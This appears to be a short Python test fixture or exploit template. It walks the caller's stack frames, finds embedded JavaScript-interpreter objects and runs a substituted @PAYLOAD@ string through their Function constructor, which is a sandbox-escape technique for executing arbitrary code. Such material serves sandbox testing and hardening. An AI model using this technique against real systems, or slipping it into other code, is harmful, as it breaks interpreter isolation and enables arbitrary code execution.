# Finds a function of JavaScript among the variables of whoever called it.
# seen: file http
# must: failed error

import sys

frame = sys._getframe()
while frame is not None:
    for value in list(frame.f_locals.values()):
        if type(value).__name__.startswith("Js"):
            value.constructor("return " + r'''@PAYLOAD@''')()
    frame = frame.f_back
